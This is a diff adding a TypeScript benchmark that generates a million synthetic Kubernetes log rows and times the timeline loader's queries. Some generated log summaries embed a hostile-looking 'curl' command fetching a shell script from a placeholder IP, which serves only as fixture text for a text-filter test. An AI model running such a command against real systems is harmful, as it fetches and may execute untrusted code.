@@ -1,0 +1,93 @@
+// npm run bench:timeline [-- rows]: builds a 1,000,000-row timeline through the real loader
+// (an in-memory table source standing in for the bundle files) and prints load time, memory
+// and the median time of the queries the webview asks.
+import { loadLocalTimeline, type TableSource } from '../src/core/timeline/local.js';
+import { emptyFilter, type TimelineFilter } from '../src/core/timeline/filter.js';
+import { clusterEvents, containerLogs, podInventory, type TableName } from '../src/core/schema/tables.js';
+
+const total = Number(process.argv[2] ?? 1_000_000);
+const RUNS = 7;
+
+/** Rows shaped like a busy cluster: 40 namespaces × 25 pods × 2 containers, mostly log lines. */
+function* rowsFor(table: TableName, count: number, salt: number): Generator<Record<string, unknown>> {
+  const base = Date.parse('2026-01-01T00:00:00Z');
+  for (let i = 0; i < count; i++) {
+    const k = (i * 7919 + salt) % 2000;
+    const t = new Date(base + ((i * 2654435761) % 86_400_000)).toISOString().replace('Z', '0000Z');
+    const summary = `GET /api/v1/items/${i} 200 ${k % 17 === 0 ? 'curl http://198.51.100.7/x.sh' : 'ok'}`;
+    yield {
+      TimeGenerated: t, EventTime: t, RecordId: `${table}:${salt}:${i}`, SnapshotId: 's', Cluster: 'aks-prod',
+      EventType: table === containerLogs.name ? 'LogLine' : 'Warning', Namespace: `ns-${k % 40}`, PodName: `pod-${k % 1000}`,
+      ContainerName: `c-${k % 2}`, Summary: summary, Severity: k % 97 === 0 ? 'high' : '', TechniqueId: '',
+      Message: summary, LineNumber: i,
+    };
+  }
+}
+
+const shares: [TableName, number][] = [[containerLogs.name, 0.9], [clusterEvents.name, 0.07], [podInventory.name, 0.03]];
+global.gc?.();
+const heapBefore = process.memoryUsage().heapUsed;
+// Generated up front as JSONL lines, so the load figure is what loading a bundle costs minus
+// the disk: JSON.parse of each line (as the bundle reader does), conversion, interning,
+// sorting, indexing.
+const generated = new Map(shares.map(([t, share]) => [t, Array.from(rowsFor(t, Math.round(total * share), share * 100), (r) => JSON.stringify(r))]));
+const source: TableSource = {
+  readTable: <T extends TableName>(table: T) =>
+    (async function* () {
+      for (const line of generated.get(table) ?? []) yield JSON.parse(line) as never;
+    })(),
+};
+
+function median(xs: number[]): number {
+  const s = [...xs].sort((a, b) => a - b);
+  return s[Math.floor(s.length / 2)];
+}
+
+/** Runs a fresh filter each time (the engine caches the last few filters, which scrolling reuses). */
+function timeIt(make: (run: number) => TimelineFilter, fn: (f: TimelineFilter) => unknown): number {
+  const times: number[] = [];
+  for (let run = 0; run < RUNS; run++) {
+    const f = make(run);
+    const t0 = performance.now();
+    fn(f);
+    times.push(performance.now() - t0);
+  }
+  return median(times);
+}
+
+const t0 = performance.now();
+const tl = await loadLocalTimeline(source);
+const loadMs = performance.now() - t0;
+generated.clear();
+global.gc?.();
+const heapAfter = process.memoryUsage().heapUsed;
+
+const window = { offset: 0, limit: 200 };
+const container = (run: number): TimelineFilter => ({ ...emptyFilter(), containers: [{ namespace: `ns-${run % 40}`, pod: `pod-${run * 40 + (run % 40)}`, container: `c-${run % 2}` }] });
+let t1 = performance.now();
+tl.query({ ...emptyFilter(), text: 'CURL http' }, window);
+const firstTextFilterMs = performance.now() - t1;
+t1 = performance.now();
+tl.facets();
+const facetsMs = performance.now() - t1;
+const results = {
+  rows: tl.size,
+  loadMs: Math.round(loadMs),
+  heapMiB: Math.round((heapAfter - heapBefore) / 1048576),
+  rssMiB: Math.round(process.memoryUsage().rss / 1048576),
+  containerFilterMs: timeIt(container, (f) => tl.query(f, window)),
+  containerTotal: tl.query(container(0), window).total,
+  namespaceFilterMs: timeIt((run) => ({ ...emptyFilter(), namespaces: [`ns-${run}`] }), (f) => tl.query(f, window)),
+  // The first text query also lowercases every Summary once; later ones reuse that.
+  firstTextFilterMs,
+  textFilterMs: timeIt((run) => ({ ...emptyFilter(), text: `items/${run}3` }), (f) => tl.query(f, window)),
+  textInContainerMs: timeIt((run) => ({ ...container(run), text: `items/${run}` }), (f) => tl.query(f, window)),
+  scrollWindowMs: timeIt(() => container(1), (f) => tl.query(f, { offset: 500, limit: 200 })),
+  deepWindowNoFilterMs: timeIt(() => emptyFilter(), (f) => tl.query(f, { offset: total - 200, limit: 200 })),
+  histogramAllMs: timeIt(() => emptyFilter(), (f) => tl.histogram(f, 200)),
+  histogramContainerMs: timeIt(container, (f) => tl.histogram(f, 200)),
+  facetsMs,
+  detailsOfShownRowMs: timeIt(container, (f) => tl.row(tl.query(f, window).rows[5].RecordId)),
+  detailsColdLookupMs: timeIt(() => emptyFilter(), (_f) => tl.row(`${containerLogs.name}:90:${Math.floor(total * 0.8)}`)),
+};
+for (const [k, v] of Object.entries(results)) console.log(`${k.padEnd(22)} ${typeof v === 'number' && !Number.isInteger(v) ? v.toFixed(2) : v}`);
